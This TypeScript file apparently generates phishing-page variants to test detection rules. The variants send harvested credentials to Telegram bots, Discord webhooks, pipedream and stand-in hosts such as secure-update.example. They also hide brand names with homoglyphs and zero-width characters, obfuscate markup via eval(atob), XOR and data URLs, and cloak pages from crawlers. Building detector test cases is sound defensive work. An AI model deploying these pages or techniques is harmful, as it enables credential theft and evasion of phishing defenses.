import type { Files } from "./given-draft.ts"
import type { PhishingPage } from "./phishing-page.ts"
import {
  base64,
  documentOf,
  escaped,
  form,
  inPieces,
  numericEntities,
  quoted,
  render,
  sending,
  unitsOf,
} from "./render.ts"

export type Trick = (page: PhishingPage) => Files

const index = (html: string | Uint8Array): Files => ({ "index.html": html })
const inScript = (code: string) => `<script>${code}</script>`
/** An almost empty page that a script fills. */
const shell = (page: PhishingPage, code: string): string =>
  `<!doctype html><html lang="${page.lang}"><head><meta charset="utf-8"></head><body><div id="app"></div>${inScript(code)}</body></html>`
const whole = (page: PhishingPage) => page.top + form(page) + page.foot
const renamed = (page: PhishingPage, to: (name: string) => string): PhishingPage => {
  const change = (text: string) => text.replaceAll(page.brand.name, to(page.brand.name))
  return { ...page, title: change(page.title), top: change(page.top), foot: change(page.foot) }
}
const cyrillic: Readonly<Record<string, string>> = {
  a: "а",
  e: "е",
  o: "о",
  p: "р",
  c: "с",
  x: "х",
  y: "у",
  i: "і",
  s: "ѕ",
}

const sinks: Readonly<Record<string, Trick>> = {
  "kit action": (page) => index(render(page)),
  "post.php": (page) => index(render(page, { form: `action="./post.php" method="POST"` })),
  "another site": (page) =>
    index(render(page, { form: `action="https://secure-update.example/collect" method="post"` })),
  formspree: (page) => index(render(page, { form: `action="https://formspree.io/f/xknlqwer" method="post"` })),
  telegram: (page) =>
    index(
      sending(
        page,
        `fetch("https://api.telegram.org/bot6712345678:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage?chat_id=-100123&text="+encodeURIComponent(JSON.stringify(d)))`,
      ),
    ),
  discord: (page) =>
    index(
      sending(
        page,
        `var x=new XMLHttpRequest();x.open("POST","https://discord.com/api/webhooks/1234567890/abcDEF_ghi");x.setRequestHeader("content-type","application/json");x.send(JSON.stringify({content:JSON.stringify(d)}))`,
      ),
    ),
  "beacon to pipedream": (page) =>
    index(sending(page, `navigator.sendBeacon("https://eo1abcd2.m.pipedream.net",JSON.stringify(d))`)),
  websocket: (page) =>
    index(
      sending(page, `var w=new WebSocket("wss://203.0.113.7:8443/in");w.onopen=function(){w.send(JSON.stringify(d))}`),
    ),
  "image request": (page) =>
    index(sending(page, `new Image().src="https://stat.collector.example/p.gif?"+new URLSearchParams(d)`)),
  formaction: (page) => {
    const fields = page.fields.replace("<button", `<button formaction="https://203.0.113.9/save.php" formmethod="post"`)
    return index(render({ ...page, fields }, { form: "" }))
  },
  "base href": (page) =>
    index(render(page, { head: `<base href="https://login-check.example/">`, form: `action="submit" method="post"` })),
}

const disguises: Readonly<Record<string, Trick>> = {
  entities: (page) =>
    index(
      render({
        ...renamed(page, numericEntities),
        fields: page.fields.replaceAll(`type="password"`, `type="&#112;&#x61;ssword"`),
      }),
    ),
  "split by tags": (page) =>
    index(
      render({
        ...renamed(page, (name) => name),
        top: page.top.replaceAll(page.brand.name, [...page.brand.name].join("<b></b>")),
      }),
    ),
  "zero width": (page) => index(render(renamed(page, (name) => [...name].join("\u200b")))),
  cyrillic: (page) =>
    index(render(renamed(page, (name) => [...name].map((letter) => cyrillic[letter] ?? letter).join("")))),
  "full width": (page) =>
    index(
      render(
        renamed(page, (name) =>
          [...name]
            .map((letter) => (letter === " " ? " " : String.fromCodePoint((letter.codePointAt(0) ?? 0) + 0xfee0)))
            .join(""),
        ),
      ),
    ),
  "type switched later": (page) =>
    index(
      render(
        { ...page, fields: page.fields.replaceAll(`type="password"`, `type="text" class="k"`) },
        { end: inScript(`document.querySelectorAll(".k").forEach(function(i){i.type="pass"+"word"})`) },
      ),
    ),
  "dots by CSS": (page) =>
    index(
      render(
        { ...page, fields: page.fields.replaceAll(/type="password" name="[a-z]+"/gu, `type="text" class="k"`) },
        { head: `<style>.k{-webkit-text-security:disc}</style>` },
      ),
    ),
  "name by CSS": (page) =>
    index(
      render(
        { ...page, title: page.words.signIn, top: `<div class="n"></div>`, foot: "" },
        { head: `<style>.n::before{content:"${page.title}"}</style>` },
      ),
    ),
  "UTF-16": (page) => {
    const units = unitsOf(`\ufeff${render(page)}`)
    return index(new Uint8Array(units.flatMap((unit) => [unit & 0xff, unit >> 8])))
  },
  "text file": (page) => ({
    "index.html": `<!doctype html><title>.</title><iframe src="page.txt"></iframe>`,
    "page.txt": render(page),
  }),
}

const scripted: Readonly<Record<string, Trick>> = {
  "innerHTML in pieces": (page) =>
    index(
      shell(
        page,
        `document.title=${inPieces(page.title)};document.getElementById("app").innerHTML=${inPieces(whole(page))}`,
      ),
    ),
  createElement: (page) =>
    index(
      documentOf(
        page,
        `${page.top}<div id="app"></div>${inScript(
          `var f=document.createElement("form");f.action="log"+"in.php";["text","pass"+"word"].forEach(function(t){var i=document.createElement("input");i.setAttribute("type",t);f.appendChild(i)});var p=document.createElement("input");p.type="password";f.append(p);app.appendChild(f)`,
        )}${page.foot}`,
      ),
    ),
  unescape: (page) => index(shell(page, `document.write(unescape("${escaped(render(page))}"))`)),
  "eval atob": (page) =>
    index(shell(page, `eval(atob("${btoa(escaped(`document.write(${JSON.stringify(whole(page))})`))}"))`)),
  "write atob": (page) =>
    index(
      shell(page, `var h="${base64(render(page))}";document.write(decodeURIComponent(escape(window["at"+"ob"](h))))`),
    ),
  fromCharCode: (page) => index(shell(page, `document.write(String.fromCharCode(${unitsOf(render(page)).join(",")}))`)),
  hex: (page) =>
    index(
      shell(
        page,
        `document.write("${unitsOf(render(page))
          .map((unit) =>
            unit < 256 ? `\\x${unit.toString(16).padStart(2, "0")}` : `\\u${unit.toString(16).padStart(4, "0")}`,
          )
          .join("")}")`,
      ),
    ),
  cipher: (page) =>
    index(
      shell(
        page,
        `var k="${base64(
          unitsOf(render(page))
            .map((unit) => String.fromCharCode((unit ^ 27) & 0xff))
            .join(""),
        )}";var s=atob(k),o="";for(var i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^27);document.open();document.write(o);document.close()`,
      ),
    ),
  "blob page": (page) =>
    index(shell(page, `location.href=URL.createObjectURL(new Blob([${quoted(render(page))}],{type:"text/html"}))`)),
}

const spread: Readonly<Record<string, Trick>> = {
  srcdoc: (page) =>
    index(
      `<!doctype html><title>.</title><iframe style="position:fixed;inset:0;width:100%;height:100%" srcdoc="${render(page).replaceAll("&", "&amp;").replaceAll('"', "&quot;")}"></iframe>`,
    ),
  "data frame": (page) => index(`<!doctype html><iframe src="data:text/html;base64,${base64(render(page))}"></iframe>`),
  "data refresh": (page) =>
    index(
      `<!doctype html><meta http-equiv="refresh" content="0;url=data:text/html;charset=utf-8,${encodeURIComponent(render(page))}">`,
    ),
  "svg form": (page) => ({
    "index.html": `<!doctype html><title>${page.title}</title><object data="view.svg" type="image/svg+xml"></object>`,
    "view.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="600"><foreignObject width="100%" height="100%"><body xmlns="http://www.w3.org/1999/xhtml">${whole(page)}</body></foreignObject></svg>`,
  }),
  "form in another file": (page) => ({
    "index.html": `<!doctype html><html lang="${page.lang}"><head><title>${page.title}</title></head><body>${page.top}<main></main>${page.foot}<script src="js/app.js"></script></body></html>`,
    "js/app.js": `document.querySelector("main").innerHTML = ${quoted(`<form id="f">${page.fields}</form>`)};\nf.onsubmit = () => fetch("/api/" + "s", { method: "POST", body: new FormData(f) });\n`,
  }),
  "sender in another file": (page) => ({
    "index.html": render(page, { form: `id="f" onsubmit="return go(this)"`, end: `<script src="./main.js"></script>` }),
    "main.js": `const bot = "6712345678:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw"\nconst url = ["https://api.tele", "gram.org/bot", bot, "/sendMessage"].join("")\nfunction go(f){ fetch(url, { method: "POST", body: JSON.stringify({ chat_id: 1, text: new URLSearchParams(new FormData(f)).toString() }) }); return false }\n`,
  }),
  "hidden frame as target": (page) =>
    index(
      render(page, {
        form: `action="https://drop.example/x" method="post" target="t"`,
        end: `<iframe name="t" style="display:none"></iframe>`,
      }),
    ),
  "for people only": (page) =>
    index(
      shell(
        page,
        `if(!/bot|crawl|spider|google|bing|headless/i.test(navigator.userAgent)&&!navigator.webdriver){document.title=${quoted(page.title)};document.body.innerHTML=${quoted(whole(page))}}else{location.replace("https://example.com/")}`,
      ),
    ),
}

/** Tricks that the rules were written against. */
export const tricks: Readonly<Record<string, Trick>> = { ...sinks, ...disguises, ...scripted, ...spread }
